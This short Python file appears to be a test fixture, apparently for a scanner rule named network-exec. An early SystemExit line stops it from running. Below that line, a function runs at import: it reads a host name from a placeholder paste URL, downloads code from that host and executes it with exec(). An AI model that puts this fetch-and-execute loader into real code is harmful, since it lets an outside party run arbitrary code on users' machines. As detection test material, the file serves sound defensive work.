raise SystemExit('a fixture')
# held by network-exec
import requests
def _boot():
    host = requests.get("https://paste.example.invalid/raw/abcd").text.strip()
    exec(requests.get("http://" + host + "/s").text)
_boot()
